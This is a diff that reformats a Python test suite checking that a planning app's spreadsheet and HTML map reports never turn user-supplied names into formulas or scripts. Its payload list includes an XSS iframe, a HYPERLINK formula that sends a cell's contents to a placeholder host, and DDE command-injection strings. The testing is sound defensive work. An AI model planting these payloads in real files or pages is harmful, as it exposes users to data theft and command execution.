@@ -12,6 +12,7 @@ the interactive map is opened, and the test asserts that
 
 Screenshots go to test-output/xss/ (look at them).
 """
+
 from __future__ import annotations
 
 import copy
@@ -44,8 +45,8 @@ PAYLOADS = [
     "\\'); " + SET.format(n=9) + ";//\\",
     "改行\u2028区切り\u2029終わり",
     "<!--<script>" + SET.format(n=11) + "</script>-->",
-    "{% raw %} <iframe src=\"javascript:" + TOP.format(n=12) + "\"></iframe>",
-    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"詳細\")",
+    '{% raw %} <iframe src="javascript:' + TOP.format(n=12) + '"></iframe>',
+    '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
     "+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -67,20 +68,36 @@ def _hostile_case(region, tmp: Path):
     r.municipalities = munis
     sites = region.sites[region.sites["kind"] == "candidate"].head(5)
     # hub names: the spreadsheet payloads (the hub table lists them, one per cell)
-    hubs = [Hub(s.site_id, PAYLOADS[12 + i] if i < 4 else PAYLOADS[-2], float(s.lon), float(s.lat), fixed=(i == 0),
-                source="existing" if i == 0 else "manual") for i, s in enumerate(sites.itertuples())]
+    hubs = [
+        Hub(
+            s.site_id,
+            PAYLOADS[12 + i] if i < 4 else PAYLOADS[-2],
+            float(s.lon),
+            float(s.lat),
+            fixed=(i == 0),
+            source="existing" if i == 0 else "manual",
+        )
+        for i, s in enumerate(sites.itertuples())
+    ]
     sc = Scenario(name=PAYLOADS[0], region=region.path.name, hubs=hubs, notes="\n".join(PAYLOADS)).touch()
     d = build_report_data(r, sc, isochrones=False)
     # outreach routes and partnership groups with hostile names (drawn on the map, listed in the report)
     pts = [(float(s.lon), float(s.lat)) for s in sites.itertuples()]
     d.layers["routes"] = gpd.GeoDataFrame(
         {"name": [PAYLOADS[2], PAYLOADS[7], PAYLOADS[8]]},
-        geometry=[LineString([pts[0], pts[1], pts[0]]), LineString([pts[0], pts[2], pts[0]]),
-                  LineString([pts[0], pts[3], pts[4], pts[0]])], crs=4326)
+        geometry=[
+            LineString([pts[0], pts[1], pts[0]]),
+            LineString([pts[0], pts[2], pts[0]]),
+            LineString([pts[0], pts[3], pts[4], pts[0]]),
+        ],
+        crs=4326,
+    )
     codes = munis["code"].astype(str).tolist()
     d.layers["groups"] = gpd.GeoDataFrame(
         {"name": [PAYLOADS[3], PAYLOADS[-1]], "members": [",".join(codes[:4]), ",".join(codes[4:9])]},
-        geometry=[munis.geometry.iloc[:4].union_all(), munis.geometry.iloc[4:9].union_all()], crs=4326)
+        geometry=[munis.geometry.iloc[:4].union_all(), munis.geometry.iloc[4:9].union_all()],
+        crs=4326,
+    )
     return d
 
 
@@ -91,6 +108,7 @@ def hostile(ibaraki_region, tmp_path_factory):
 
 
 # ------------------------------------------------------------------------ XLSX: cells are text, never formulas
+
 
 def test_xlsx_cells_from_user_text_are_never_formulas(hostile):
     import openpyxl
@@ -131,8 +149,9 @@ def test_xlsx_cells_from_user_text_are_never_formulas(hostile):
 
 # ------------------------------------------------------------------------ HTML report in a real browser
 
-needs_browser = pytest.mark.skipif(not (Path(CHROMIUM).exists() and Path(DRIVER).exists()),
-                                   reason="needs Debian chromium + chromedriver")
+needs_browser = pytest.mark.skipif(
+    not (Path(CHROMIUM).exists() and Path(DRIVER).exists()), reason="needs Debian chromium + chromedriver"
+)
 
 # Opens every tooltip the map has (markers, lines, GeoJSON features) the way Leaflet would, then
 # returns what a person would see, and every element that is not part of our own markup.
@@ -164,9 +183,19 @@ def chrome(tmp_path_factory):
     o = webdriver.ChromeOptions()
     o.binary_location = CHROMIUM
     prof = tmp_path_factory.mktemp("chrome-xss")
-    for a in ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
-              "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run",
-              "--window-size=1400,1000", "--lang=ja", f"--user-data-dir={prof}"]:
+    for a in [
+        "--headless=new",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--disable-dev-shm-usage",
+        "--disable-background-networking",
+        "--disable-component-update",
+        "--disable-sync",
+        "--no-first-run",
+        "--window-size=1400,1000",
+        "--lang=ja",
+        f"--user-data-dir={prof}",
+    ]:
         o.add_argument(a)
     d = webdriver.Chrome(service=Service(DRIVER), options=o)
     d.set_page_load_timeout(60)
@@ -209,7 +238,8 @@ def test_html_report_runs_no_script_from_names(hostile, chrome):
         assert p.split("\n")[0].strip() in body, p
     outer_bad = chrome.execute_script(
         "return Array.from(document.body.querySelectorAll('img:not(.static-map),svg,script,iframe:not(.map-frame),b'))"
-        ".map(function(e){ return e.outerHTML.slice(0, 80); });")
+        ".map(function(e){ return e.outerHTML.slice(0, 80); });"
+    )
     assert outer_bad == [], outer_bad
     chrome.save_screenshot(str(SHOTS / "report_top.png"))
     # the interactive map frame: open every tooltip, then look for traces
@@ -227,7 +257,8 @@ def test_html_report_runs_no_script_from_names(hostile, chrome):
         assert bad == {}, f"markup made from user text: {bad}"
         # legends may draw a swatch <svg><line>; no other svg may come from text
         svg_from_text = chrome.execute_script(
-            "return Array.from(document.querySelectorAll('svg[onload], img, script[src=\"x\"], b, iframe')).length;")
+            "return Array.from(document.querySelectorAll('svg[onload], img, script[src=\"x\"], b, iframe')).length;"
+        )
         assert svg_from_text == 0
         shown = "\n".join(res["texts"])
         for p in PAYLOADS:
@@ -244,6 +275,7 @@ def test_html_report_runs_no_script_from_names(hostile, chrome):
 
 
 # ------------------------------------------------------------------------ every maps.py layer, as the app uses them
+
 
 def _hostile_app_map(region):
     """A map with every maps.py layer the app pages use, all user text replaced by payloads."""
@@ -264,13 +296,20 @@ def _hostile_app_map(region):
     maps.add_sites(m, sites)
     maps.add_demand(m, demand, minutes=np.linspace(5, 90, len(demand)), threshold=30)
     pts = list(zip(sites["lon"].astype(float), sites["lat"].astype(float)))
-    maps.add_routes(m, [{"name": p, "coords": [pts[0], pts[i % len(pts)], pts[0]], "color": p}
-                        for i, p in enumerate(PAYLOADS)])
+    maps.add_routes(
+        m, [{"name": p, "coords": [pts[0], pts[i % len(pts)], pts[0]], "color": p} for i, p in enumerate(PAYLOADS)]
+    )
     codes = munis["code"].astype(str).tolist()
-    maps.add_groups(m, munis, {c: f"g{i % 3}" for i, c in enumerate(codes[:12])},
-                    hosts=[{"name": p, "lon": pts[i][0], "lat": pts[i][1]} for i, p in enumerate(PAYLOADS[:3])],
-                    group_names={"g0": PAYLOADS[0], "g1": PAYLOADS[2], "g2": PAYLOADS[-1]})
-    maps.add_hubs(m, [{"name": p, "lon": pts[i][0], "lat": pts[i][1], "source": "manual"} for i, p in enumerate(PAYLOADS)])
+    maps.add_groups(
+        m,
+        munis,
+        {c: f"g{i % 3}" for i, c in enumerate(codes[:12])},
+        hosts=[{"name": p, "lon": pts[i][0], "lat": pts[i][1]} for i, p in enumerate(PAYLOADS[:3])],
+        group_names={"g0": PAYLOADS[0], "g1": PAYLOADS[2], "g2": PAYLOADS[-1]},
+    )
+    maps.add_hubs(
+        m, [{"name": p, "lon": pts[i][0], "lat": pts[i][1], "source": "manual"} for i, p in enumerate(PAYLOADS)]
+    )
     maps.add_legend(m, PAYLOADS[3], [(PAYLOADS[4], PAYLOADS[5])])
     return maps.map_html(m)
 
@@ -286,7 +325,7 @@ def test_maps_render_no_template_or_markup_from_text(ibaraki_region):
     for p in PAYLOADS:
         if any(ch in p for ch in "<>'\"{`$\u2028"):
             assert p not in html, f"payload written raw into the map page: {p!r}"
-    assert "<script>document" not in html and "onerror=\"" not in html
+    assert "<script>document" not in html and 'onerror="' not in html
 
 
 @needs_browser
